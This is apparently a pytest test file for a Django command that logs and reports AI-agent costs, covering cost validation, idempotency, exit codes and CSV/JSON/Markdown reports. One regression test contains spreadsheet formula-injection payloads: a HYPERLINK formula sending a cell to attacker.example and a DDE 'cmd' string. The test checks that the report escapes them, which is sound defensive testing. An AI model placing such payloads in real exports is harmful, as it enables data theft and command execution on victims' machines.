"""`manage.py track_costs` as the contract says: --report in md/csv/json (to stdout or --out) and
--log; exit 2 for usage errors."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command

from costs.models import CostEntry
from costs.services import cost_record
from tests.conftest import ROOT, child_environment
from tests.factories import UserFactory


def track_costs(*args: str) -> str:
    out = io.StringIO()
    call_command("track_costs", *args, stdout=out)
    return out.getvalue()


@pytest.mark.django_db
def test_log_records_a_manual_entry_and_prints_the_budget(qa_agent, default_budget):
    printed = track_costs("--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "8.5",
                          "--tokens", "1200", "--model", "open-mistral-7b", "--note", "prototype spend from the CSV")
    entry = CostEntry.objects.get()
    assert (entry.amount_usd, entry.operation, entry.tokens, entry.model, entry.note, entry.source, entry.actor) == (
        Decimal("8.5"), "manual", 1200, "open-mistral-7b", "prototype spend from the CSV", "track_costs --log", None)
    assert printed.splitlines() == [
        f"recorded entry #{entry.pk}: $8.50 manual for qa_agent",
        "budget 'default': $8.50 of $30.00 (28.3 %; thresholds reached: 25 %)",
    ]


@pytest.mark.django_db
def test_log_with_a_key_records_once_and_as_a_user(qa_agent):
    UserFactory(username="ops", is_superuser=True)
    for _ in range(2):
        track_costs("--log", "--agent", "qa_agent", "--operation", "fine_tuning", "--cost", "4", "--key", "ft-job:9", "--as", "ops")
    entry = CostEntry.objects.get()
    assert (entry.idempotency_key, entry.actor.username) == ("ft-job:9", "ops")


@pytest.mark.django_db
def test_a_key_reused_with_other_values_is_refused_naming_the_entry_and_an_exact_repeat_returns_it(qa_agent):
    log = ("--log", "--agent", "qa_agent", "--operation", "manual", "--key", "k1")
    first = track_costs(*log, "--cost", "0.05")
    entry = CostEntry.objects.get()
    assert f"recorded entry #{entry.pk}: $0.05 manual for qa_agent" in first
    assert f"recorded entry #{entry.pk}: $0.05" in track_costs(*log, "--cost", "0.050")  # the same amount
    with pytest.raises(CommandError) as reused:
        track_costs(*log, "--cost", "0.07")
    assert reused.value.returncode == 1
    assert str(reused.value) == (
        f"--key: 'k1' was already used for entry #{entry.pk} ($0.05, manual, agent qa_agent), recorded with a different "
        "amount; repeat it exactly to get that entry back, or use a new key for a new charge"
    )
    with pytest.raises(CommandError, match="recorded with a different model and note"):
        track_costs(*log, "--cost", "0.05", "--model", "open-mistral-7b", "--note", "typo")
    assert CostEntry.objects.count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--log", "--agent", "nobody", "--operation", "manual", "--cost", "1"], "--agent: unknown agent 'nobody'; known agents: qa_agent"),
        (["--log", "--agent", "qa_agent", "--operation", "coffee", "--cost", "1"], "--operation: 'coffee' is not one of fine_tuning, benchmark, inference, storage, manual"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "-2"], "--cost: '-2' must be zero or more"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "two"], "--cost: 'two' is not a number of dollars"),
        (["--log", "--agent", "qa_agent", "--operation", "manual"], "--log needs --cost"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "1", "--tokens", "-5"], "--tokens: cannot be negative"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "1", "--format", "csv"], "--format and --out go with --report"),
        (["--report", "--agent", "qa_agent"], "--agent: only with --log"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "1", "--as", "ghost"], "--as: no user 'ghost'"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "0.1234567"],
         "--cost: '0.1234567' has more than 6 decimal places (the ledger keeps micro-dollars)"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "99999999999"],
         "--cost: 99999999999 is too large; it can be at most 9,999,999,999.999999 (10 digits before the decimal point)"),
        # Money review: Decimal() took "1_0" as $10 and "-0" as zero; --cost is read as the API reads money.
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "1_0"],
         "--cost: '1_0' is not written as dollars: up to 10 digits, then optionally a point and up to 6 more, e.g. 2.50 "
         "(no sign, exponent, underscore or space)"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "-0"], "--cost: '-0' must be zero or more, written without a sign"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "1e1"], "--cost: '1e1' is not written as dollars"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", " 2"], "--cost: ' 2' is not written as dollars"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "+2"], "--cost: '+2' is not written as dollars"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "Infinity"], "--cost: 'Infinity' is not a number of dollars"),
        (["--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "1", "--tokens", "99999999999999999999"],
         "--tokens: 99999999999999999999 is too large; it can be at most 9,223,372,036,854,775,807"),
    ],
)
def test_usage_errors_exit_2_with_a_message(qa_agent, args, message):
    with pytest.raises(CommandError) as error:
        track_costs(*args)
    assert error.value.returncode == 2
    assert message in str(error.value)
    assert not CostEntry.objects.exists()


@pytest.mark.django_db
def test_report_formats_and_out_file(qa_agent, legal_agent, default_budget, tmp_path):
    cost_record(agent=qa_agent, operation="benchmark", amount_usd=Decimal("1.234567"), idempotency_key="a")
    cost_record(agent=legal_agent, operation="inference", amount_usd=Decimal("0.000033"), idempotency_key="b", model="open-mistral-7b", tokens=132)
    rows = list(csv.reader(io.StringIO(track_costs("--report", "--format", "csv"))))
    assert rows[0] == ["day", "agent", "operation", "model", "entries", "tokens", "amount_usd"]
    assert [row[1:] for row in rows[1:]] == [
        ["legal_agent", "inference", "open-mistral-7b", "1", "132", "0.000033"],
        ["qa_agent", "benchmark", "", "1", "0", "1.234567"],
        ["", "", "", "2", "132", "1.2346"],
    ]
    report = json.loads(track_costs("--report", "--format", "json"))
    assert (report["total_usd"], report["by_agent"], report["budgets"][0]["name"]) == (
        "1.2346", {"legal_agent": "0.000033", "qa_agent": "1.234567"}, "default")
    markdown = track_costs("--report")
    for heading in ("## Budgets", "## Alerts", "### By agent", "### By operation", "### By model", "### By day", "## Fine-tuning jobs"):
        assert heading in markdown
    target = tmp_path / "costs.md"
    assert track_costs("--report", "--out", str(target)) == f"wrote the md report to {target}: $1.23 over 2 entries\n"
    assert target.read_text() == markdown


def test_a_real_process_exits_2_on_usage_errors_and_0_when_done(transactional_db, qa_agent):
    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "manage.py", "track_costs", *args], cwd=ROOT, env=child_environment(),
                              capture_output=True, text=True, timeout=60)

    assert run().returncode == 2  # neither --report nor --log
    unknown = run("--log", "--agent", "nobody", "--operation", "manual", "--cost", "1")
    assert unknown.returncode == 2 and "unknown agent 'nobody'" in unknown.stderr
    too_large = run("--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "99999999999")
    assert too_large.returncode == 2 and "--cost: 99999999999 is too large" in too_large.stderr, too_large.stderr
    assert "Traceback" not in too_large.stderr
    done = run("--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "1.5")
    assert done.returncode == 0, done.stderr
    assert CostEntry.objects.get().amount_usd == Decimal("1.5")


@pytest.mark.django_db
def test_report_csv_keeps_a_model_name_a_spreadsheet_would_run_as_text(qa_agent):
    # Was: the cell written as typed, so opening the report ran the formula (a click sent B2 away).
    UserFactory(username="admin", is_superuser=True)
    formula = '=HYPERLINK("http://attacker.example/?d="&B2,"open")'
    for index, model in enumerate((formula, "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "open-mistral-7b")):
        track_costs("--log", "--agent", "qa_agent", "--operation", "inference", "--cost", "0.01", "--model", model,
                    "--key", f"m{index}", "--as", "admin")
    rows = list(csv.reader(io.StringIO(track_costs("--report", "--format", "csv"))))
    assert sorted(row[3] for row in rows[1:-1]) == sorted(
        [f"'{formula}", "'@SUM(1+1)", "'-2+3+cmd|' /C calc'!A0", "open-mistral-7b"])
    assert [row[6] for row in rows[1:]] == ["0.01", "0.01", "0.01", "0.01", "0.04"]  # amounts stay numbers


@pytest.mark.django_db
def test_a_tiny_charge_is_logged_once_without_an_error_and_the_report_says_exhaustion_is_not_in_sight(qa_agent, default_budget):
    """Money review: `--log --cost 0.00001` committed its entry, then raised OverflowError printing the
    budget (exhaustion three million days on): an operator who ran it again was charged twice. The
    report crashed the same way."""
    printed = track_costs("--log", "--agent", "qa_agent", "--operation", "manual", "--cost", "0.00001")
    entry = CostEntry.objects.get()
    assert printed.splitlines() == [
        f"recorded entry #{entry.pk}: $0.000010 manual for qa_agent",
        "budget 'default': $0.000010 of $30.00 (0 %; thresholds reached: none)",
    ]
    assert "| not in sight (more than 100 years at the current burn rate) |" in track_costs("--report")
    assert json.loads(track_costs("--report", "--format", "json"))["budgets"][0]["projected_exhaustion_at"] is None
